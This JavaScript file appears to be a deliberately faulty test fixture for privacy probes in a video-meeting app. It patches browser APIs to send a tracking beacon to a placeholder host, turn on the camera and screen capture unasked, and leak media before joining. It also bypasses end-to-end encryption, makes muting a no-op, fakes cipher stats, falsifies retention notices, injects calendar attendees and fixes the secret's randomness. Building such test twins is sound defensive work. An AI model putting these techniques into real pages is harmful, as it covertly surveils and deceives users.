/**
 * For the probes' twins: what a page does that spies, leaks and deceives. Runs after spy.js, so that the spy stands
 * between it and the browser. Each fault is one that a probe is there to find; the names are addresses of nobody.
 */
(() => {
  if ('klausurDamaged' in window) return
  Object.defineProperty(window, 'klausurDamaged', { value: true })
  const before = () => location.pathname.startsWith('/m/') && !document.querySelector('[role=toolbar]')

  // Third parties, storage, scripts without a policy.
  const spoil = () => {
    fetch('http://statistics.example/visit').catch(() => undefined)
    localStorage.setItem('visitor', 'recognised')
    // biome-ignore lint/suspicious/noDocumentCookie: that is the fault
    document.cookie = 'visitor=recognised; path=/'

    // Devices that go on by themselves, a screen that nobody chose, a field that nobody needs.
    const camera = setInterval(() => {
      const control = document.querySelector('[role=switch][aria-checked=false]:not([aria-busy=true])')
      const wanted = [...document.querySelectorAll('[role=switch]')].find((each) => /^Camera$/.test(each.getAttribute('aria-label') ?? each.innerText.trim()))
      if (!before() || !control || !wanted) return
      clearInterval(camera)
      wanted.click()
      navigator.mediaDevices.getDisplayMedia({ video: { displaySurface: 'monitor' } }).catch(() => undefined)
      wanted.closest('form, .before, main')?.insertAdjacentHTML('beforeend', '<label>E-mail <input type="email" required></label>')
    }, 50)

    // What is to be seen is hidden, or lies.
    const style = new CSSStyleSheet()
    style.replaceSync(`
      .shield, .note, a[href="/privacy"], a[href="/imprint"] { display: none !important }
      [role=group][aria-label="Otto"], [id=people] ul:not(.knocks) > li:last-child .name { display: none !important }
    `)
    document.adoptedStyleSheets.push(style)
    document.body.insertAdjacentHTML('afterbegin', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><button></button>')
  }
  addEventListener('DOMContentLoaded', () => setTimeout(spoil))

  // The picture goes out while it is still only looked at.
  const media = navigator.mediaDevices
  const Connection = window.RTCPeerConnection
  if (media && Connection) {
    const open = media.getUserMedia.bind(media)
    media.getUserMedia = async (wanted) => {
      const stream = await open(wanted)
      if (before()) {
        const leak = new Connection({ iceServers: [] })
        for (const track of stream.getTracks()) leak.addTrack(track, stream)
      }
      return stream
    }
    window.RTCPeerConnection = new Proxy(Connection, {
      construct(target, [configuration, ...rest], as) {
        return Reflect.construct(target, [{ ...configuration, iceServers: [{ urls: 'stun:stun.example:3478' }] }, ...rest], as)
      },
    })
    // Somebody else's address, on loopback so that nothing leaves this machine.
    const describe = Connection.prototype.setRemoteDescription
    Connection.prototype.setRemoteDescription = async function (said) {
      await describe.call(this, said)
      const candidate = 'candidate:7 1 udp 1 127.0.0.77 9 typ host'
      await this.addIceCandidate({ candidate, sdpMLineIndex: 0 }).catch(() => undefined)
    }
    const statistics = Connection.prototype.getStats
    Connection.prototype.getStats = async function (...rest) {
      const told = new Map(await statistics.apply(this, rest))
      for (const [id, entry] of told)
        if (entry.type === 'transport') told.set(id, { ...entry, tlsVersion: 'FEFF', srtpCipher: 'SRTP_NULL_SHA1_32' })
      return told
    }
  }

  // Nothing is encrypted: the frames go past the encrypting worker, which is given streams that lead nowhere.
  for (const prototype of [window.RTCRtpSender?.prototype, window.RTCRtpReceiver?.prototype]) {
    const streams = prototype?.createEncodedStreams
    if (!streams) continue
    prototype.createEncodedStreams = function () {
      const { readable, writable } = streams.call(this)
      readable.pipeTo(writable).catch(() => undefined)
      const nowhere = new TransformStream()
      return { readable: nowhere.readable, writable: new WritableStream() }
    }
  }

  // Switched off is not off.
  Object.defineProperty(MediaStreamTrack.prototype, 'enabled', { get: () => true, set: () => undefined })
  MediaStreamTrack.prototype.stop = () => undefined
  const replace = window.RTCRtpSender?.prototype.replaceTrack
  if (replace)
    RTCRtpSender.prototype.replaceTrack = function (track) {
      return track ? replace.call(this, track) : Promise.resolve()
    }

  // The notice names other periods than those in effect.
  const ask = window.fetch
  window.fetch = async (...wanted) => {
    const answer = await ask(...wanted)
    if (!new URL(answer.url || '/', location.href).pathname.endsWith('/api/operator') || !answer.ok) return answer
    const told = await answer.json()
    for (const name of Object.keys(told.retention ?? {})) told.retention[name] *= 7
    return new Response(JSON.stringify(told), { headers: { 'content-type': 'application/json' } })
  }

  // Calendars are told who was invited.
  const Real = window.Blob
  window.Blob = class extends Real {
    constructor(parts, options) {
      const spoilt = /^text\/calendar/.test(options?.type ?? '')
      super(spoilt ? parts.map((part) => part.replace('END:VEVENT', 'ATTENDEE:mailto:gustav@example.org\r\nEND:VEVENT')) : parts, options)
    }
  }

  // The secret of every meeting is the same.
  const random = crypto.getRandomValues.bind(crypto)
  crypto.getRandomValues = (array) =>
    location.pathname === '/' && array.byteLength === 32 ? array.fill(7) : random(array)
})()
